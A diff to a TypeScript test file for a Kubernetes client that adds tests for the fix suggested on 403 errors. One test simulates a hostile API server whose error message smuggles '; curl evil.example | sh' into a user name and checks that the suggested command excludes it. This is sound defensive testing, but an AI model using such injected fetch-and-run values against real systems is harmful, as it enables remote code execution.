@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { once } from 'node:events';
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 // The package file, not the bare name: Bun swaps `undici` for a stand-in (src/kubernetes/undici.ts).
@@ -196,6 +197,41 @@ describe('errors say what to fix', () => {
       );
       // Without a JWT the account comes from the server's message.
       await assert.rejects(list(f, { kubernetes: { url: f.api.url, token: 'opaque' } }), apiError('EFORBIDDEN', /--serviceaccount=default:default/));
+    } finally {
+      await f.close();
+    }
+  });
+
+  test('403 from a hostile server: a user name that is not a service account name stays out of the suggested command', async () => {
+    const server = http.createServer((_req, res) => {
+      const message = 'endpointslices.discovery.k8s.io is forbidden: User "system:serviceaccount:x:y; curl evil.example | sh" cannot list resource';
+      res.writeHead(403, { 'content-type': 'application/json' });
+      res.end(JSON.stringify({ kind: 'Status', status: 'Failure', message, reason: 'Forbidden', code: 403 }));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+      await assert.rejects(peers('nginx', { source: 'kubernetes', namespace: 'default', kubernetes: { url, token: 'opaque' } }), (err: unknown) => {
+        assert.ok(err instanceof KubernetesApiError);
+        assert.equal(err.code, 'EFORBIDDEN');
+        const fix = err.message.slice(err.message.indexOf('Fix:'), err.message.indexOf('Server said:'));
+        assert.match(fix, /--serviceaccount=<namespace>:<name>/);
+        assert.doesNotMatch(fix, /curl/);
+        return true;
+      });
+    } finally {
+      server.closeAllConnections();
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    }
+  });
+
+  test('403 with a service-account token: the account from the token', async () => {
+    const f = await apiFixture({ forbidden: true });
+    try {
+      await assert.rejects(
+        list(f, { kubernetes: { url: f.api.url, token: serviceAccountToken('kube-system', 'coredns') } }),
+        apiError('EFORBIDDEN', /--serviceaccount=kube-system:coredns/),
+      );
     } finally {
       await f.close();
     }
